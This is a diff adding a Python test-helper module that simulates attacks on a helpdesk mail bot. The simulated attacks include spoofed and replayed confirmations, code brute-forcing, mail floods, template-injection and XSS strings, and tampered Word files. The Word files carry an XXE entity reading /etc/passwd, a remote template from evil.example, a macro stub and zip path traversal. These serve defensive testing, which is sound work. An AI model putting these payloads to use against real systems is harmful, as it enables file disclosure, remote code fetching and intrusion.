@@ -1,0 +1,223 @@
+"""What an attacker does, and what is asked of the desk afterwards."""
+
+import re
+from collections.abc import Callable
+from email import message_from_bytes
+from io import BytesIO
+from zipfile import ZipFile
+
+from mailbot.core import facts as f
+from mailbot.core.model import Role, Status
+from tests.attacks.stage import CLERK, EVIL, FAILED, NURSE, OFFICE, Stage, raw, zipped
+
+TRUSTED = "Authentication-Results: mx.weibao.example; spf=pass smtp.mailfrom=hospital.example"
+ADMIT = f"登记 {EVIL} 张三 信息科"
+FAULT = "团检结算单抬头单位名称显示不全，先手写补上。\n操作：团检—结算。Win7。"
+HOSTILE = "{{7*7}} {% for x in range(9) %}no{% endfor %} {{ contract.__class__ }}"
+PAGE = f'<p onclick=alert(1)>{FAULT}</p><script>alert(1)</script><img src="http://evil.example/p.gif"><a href="javascript:x">打开</a>'
+
+Move = Callable[[Stage], object]
+
+
+def confirmed(stage: Stage) -> bool:
+    return stage.status is not Status.AWAITING
+
+
+def coded(stage: Stage) -> bool:
+    """Whether the registered clerk, and nobody else, was asked for a code."""
+    return "验证码：" in stage.told(CLERK) and not [
+        one for one in stage.addressees() - {CLERK} if "验证码：" in stage.told(one)
+    ]
+
+
+def evil_known(stage: Stage) -> bool:
+    return stage.village.desk.state.person(EVIL).role is not Role.STRANGER
+
+
+def code(stage: Stage) -> str:
+    """The code the clerk was sent, which an attacker does not see but tests may."""
+    found = re.findall(r"验证码：([A-Z]{4}-[A-Z]{4})", stage.told(CLERK))
+    return str(found[-1])
+
+
+def report(stage: Stage, *headers: str, text: str = FAULT, **parts: object) -> None:
+    """A report of a person known and proven, with whatever is wrong with the rest of it."""
+    given = "".join(headers)
+    own = ("From: " + CLERK,) if "From:" not in given else ()
+    subject = ("Subject: x",) if "Subject:" not in given else ()
+    stage.send(
+        raw(
+            TRUSTED,
+            *own,
+            *subject,
+            f"Message-ID: <{stage.village.count}@hospital.example>",
+            *headers,
+            text=text,
+            **parts,
+        )
+    )  # type: ignore[arg-type]
+
+
+def guesses(stage: Stage) -> None:
+    stage.send(stage.reply(CLERK, FAILED))
+    right = code(stage)
+    for place in range(2, 9):
+        stage.send(stage.reply(CLERK, FAILED, text=f"验证码 BBBB-BBB{'BCDFGHJK'[place - 2]}", number=place))
+    stage.send(stage.reply(CLERK, FAILED, text=f"验证码 {right}", number=10))
+
+
+def replayed(stage: Stage) -> None:
+    """A confirmation of the clerk's, a rejection of hers, and then the confirmation again as it passed another relay."""
+    stage.send(stage.reply(CLERK, TRUSTED, text="确认。", number=1))
+    stage.send(stage.reply(CLERK, TRUSTED, text="未解决，还是读不出来。", number=2))
+    stage.send(stage.reply(CLERK, "X-Relay: again", TRUSTED, text="确认。", number=1))
+
+
+def anothers(stage: Stage) -> None:
+    stage.send(stage.reply(CLERK, FAILED))
+    stage.send(
+        raw(TRUSTED, f"From: {NURSE}", "Subject: x", "Message-ID: <9@hospital.example>", text=f"验证码 {code(stage)}")
+    )
+
+
+def quoted_admission(stage: Stage) -> None:
+    """The stranger writes the line that admits; 信息科 only asks about it, and its program quotes everything."""
+    stage.send(raw(f"From: {EVIL}", "Subject: x", "Message-ID: <1@evil.example>", text=f"请回复：\n{ADMIT}"))
+    text = f"这人是谁？\n\n在 2026-03-10 10:00，服务台 写道：\n> 请回复：\n> {ADMIT}\n"
+    stage.send(raw(TRUSTED, f"From: {OFFICE}", "Subject: Re: x", "Message-ID: <2@hospital.example>", text=text))
+
+
+def files(stage: Stage) -> set[str]:
+    """Every file of the home, and what lies beside it."""
+    return {str(path.relative_to(stage.home.parent)) for path in stage.home.parent.rglob("*") if path.is_file()}
+
+
+def stray(stage: Stage) -> list[str]:
+    """Files that are named by anything but a hash, beside those a home has."""
+    own = re.compile(
+        r"home/(?:mailbot\.toml|password|key|journal\S*|ledger/\S+|(?:mail|letters|aside)/(?:[0-9a-f]{2}/)?[0-9a-f]{64}\.\w+|mail/attempts\.jsonl)"
+    )
+    return [name for name in files(stage) if not own.fullmatch(name)]
+
+
+def attached(name: str, data: bytes = b"\xff\xd8\xff\xe0 photo") -> Callable[[Stage], None]:
+    return lambda stage: report(stage, text=FAULT, file=(name, data))
+
+
+def with_form(
+    change: Callable[[dict[str, bytes]], dict[str, bytes]] = dict, name: str = "filename=a.docx", **said: str
+) -> Move:
+    """A filled 附件1, its parts changed by somebody."""
+
+    def does(stage: Stage) -> None:
+        with ZipFile(BytesIO(stage.run_sheet(**said))) as archive:
+            parts = {one: archive.read(one) for one in archive.namelist()}
+        report(stage, "Subject: 运行表", text="附件1运行表见附件。", file=(name, zipped(**change(parts))))
+
+    return does
+
+
+def entity(parts: dict[str, bytes]) -> dict[str, bytes]:
+    """The main part reads a file of this machine."""
+    text = parts["word/document.xml"].decode()
+    head, rest = text.split("?>", 1)
+    evil = re.sub(r"CPU 41%", "&xxe;", rest)
+    return parts | {
+        "word/document.xml": f'{head}?><!DOCTYPE w [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>{evil}'.encode()
+    }
+
+
+def remote(parts: dict[str, bytes]) -> dict[str, bytes]:
+    """A template fetched from elsewhere when the file is opened."""
+    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
+    more = f'<Relationship Id="rIdX" Type="{kind}" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
+    name = "word/_rels/document.xml.rels"
+    return parts | {name: parts[name].replace(b"</Relationships>", more.encode())}
+
+
+def macro(parts: dict[str, bytes]) -> dict[str, bytes]:
+    return parts | {"word/vbaProject.bin": b"AutoOpen"}
+
+
+def traversal(parts: dict[str, bytes]) -> dict[str, bytes]:
+    return parts | {"../../../escaped.txt": b"escaped", "/tmp/escaped.txt": b"escaped"}
+
+
+def enclosures(stage: Stage) -> list[str]:
+    """Every part of every Office file that left."""
+    found = []
+    for letter in stage.letters:
+        for file in letter.attachments:
+            with ZipFile(BytesIO(file.data)) as archive:
+                found += [f"{name}\n{archive.read(name).decode('utf-8', 'replace')}" for name in archive.namelist()]
+    return found
+
+
+def flood(count: int, *headers: str) -> Callable[[Stage], None]:
+    return lambda stage: (
+        [
+            stage.send(raw(*headers, f"Subject: {place}", f"Message-ID: <{place}@evil.example>", text="请问怎么报修？"))
+            for place in range(count)
+        ]
+        and None
+    )
+
+
+def acts_flood(stage: Stage) -> None:
+    for place in range(30):
+        stage.send(stage.reply(CLERK, FAILED, number=place))
+
+
+def pages(stage: Stage) -> bytes:
+    """The HTML parts of every letter."""
+    mails = [
+        message_from_bytes(stage.village.desk.archive.letter(fact.sha256)) for fact in stage.happened(f.LetterPosted)
+    ]  # type: ignore[attr-defined]
+    parts = (part for mail in mails for part in mail.walk() if part.get_content_type() == "text/html")
+    return b"".join(bytes(part.get_payload(decode=True)) for part in parts)  # type: ignore[arg-type]
+
+
+def answer(who: str, *headers: str, **more: object) -> Move:
+    """An answer to the letter that asks the clerk to confirm."""
+    return lambda stage: stage.send(stage.reply(who, *headers, **more))  # type: ignore[arg-type]
+
+
+def first(who: str, *headers: str, text: str = "确认。") -> Move:
+    """A first mail."""
+    subject = () if any(header.startswith("Subject:") for header in headers) else ("Subject: x",)
+    return lambda stage: stage.send(raw(*headers, f"From: {who}", *subject, "Message-ID: <1@evil.example>", text=text))
+
+
+def reports(*headers: str, **more: object) -> Move:
+    """A report of the clerk's, proven, with something wrong in it."""
+    return lambda stage: report(stage, *headers, **more)  # type: ignore[arg-type]
+
+
+def says(who: str, *words: str) -> Move:
+    """Whether somebody was written all of these words."""
+    return lambda stage: all(word in stage.told(who) for word in words)
+
+
+def writes_to(who: str) -> Move:
+    """Whether any letter went there."""
+    return lambda stage: who in stage.addressees()
+
+
+def ends(how: str) -> Move:
+    """Whether the last mail ended so."""
+    return lambda stage: stage.ended()[-1] == how
+
+
+def encloses(words: str) -> Move:
+    """Whether an Office file that left holds the words."""
+    return lambda stage: any(words in part for part in enclosures(stage))
+
+
+def shows(pattern: bytes) -> Move:
+    """Whether a letter's page has what the pattern finds."""
+    return lambda stage: re.search(pattern, pages(stage))
+
+
+def tells(pattern: str) -> Move:
+    """Whether any letter has it in words or headers."""
+    return lambda stage: re.search(pattern, stage.whole())
